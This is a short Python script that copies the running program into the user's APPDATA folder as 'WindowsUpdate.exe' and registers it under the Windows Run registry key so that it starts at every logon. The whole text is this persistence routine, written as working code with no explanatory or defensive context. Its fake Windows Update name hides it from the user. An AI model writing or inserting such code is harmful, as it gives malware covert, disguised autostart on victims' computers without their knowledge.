import os
import shutil
import sys
import winreg
target = os.path.join(os.environ["APPDATA"], "WindowsUpdate.exe")
shutil.copyfile(sys.executable, target)
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, "WindowsUpdate", 0, winreg.REG_SZ, target)
